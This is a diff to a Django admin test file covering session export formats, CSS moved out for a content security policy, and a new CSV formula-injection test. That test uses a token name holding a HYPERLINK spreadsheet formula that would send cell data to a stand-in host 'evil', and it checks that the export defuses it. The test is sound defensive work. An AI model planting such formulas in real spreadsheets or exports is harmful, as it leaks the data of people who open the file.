@@ -3,6 +3,7 @@
 import json
 import os
 import re
+from pathlib import Path
 
 import pytest
 from django.urls import reverse
@@ -192,7 +193,7 @@ def test_sessions_cannot_be_added(admin_client):
         ("export_txt", "text/plain", "turn on the lights\n"),
         ("export_json", "application/json", '"text": "turn on the lights"'),
         ("export_srt", "application/x-subrip", " --> "),
-        ("export_csv", "text/csv", "id,user,token_name"),
+        ("export_csv", "text/csv", '"id","user","token_name"'),
     ],
 )
 def test_export_actions(admin_client, history, api_token, action, content_type, marker):
@@ -298,7 +299,12 @@ def test_session_detail_shows_only_the_tables_with_rows(admin_client, history):
     assert 'id="errors-group"' not in html  # no errors: no table of headers alone
     assert 'id="batches-group"' not in html
     # The inlines' title rows (each record's str, cut short) are hidden.
-    assert ".inline-group .tabular td.original p { display: none; }" in html
+    # (in static/css/admin-session.css: the CSP allows no inline style)
+    assert "css/admin-session.css" in html
+    from django.contrib.staticfiles import finders
+
+    css = Path(finders.find("css/admin-session.css")).read_text()
+    assert ".inline-group .tabular td.original p { display: none; }" in css
     failed = admin_client.get(session_url(history["failed"])).content.decode()
     assert 'id="errors-group"' in failed
 
@@ -321,3 +327,22 @@ def test_session_and_its_batches_link_to_each_other(admin_client, voice_session)
         assert f'href="{batch_url}"' in html
         batch_page = admin_client.get(batch_url).content.decode()
         assert f'href="{session_url(session)}"' in batch_page
+
+
+def test_csv_export_defuses_a_formula_after_a_locale_separator(admin_client, user):
+    """Issue 20 item 7: `;` separates cells in many locales."""
+    import csv
+    import io
+
+    from accounts.services import api_token_create
+
+    token, _ = api_token_create(user=user, name='x;=HYPERLINK("http://evil/?"&A2,"x")')
+    session = record_session(user=user, token=token, finals=["hi"])
+    response = admin_client.post(
+        SESSIONS, {"action": "export_csv", "_selected_action": [session.pk]}
+    )
+    body = response.content.decode()
+    for row in csv.reader(io.StringIO(body), delimiter=";"):
+        for cell in row:
+            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), cell
+    assert ";'=HYPERLINK(" in body
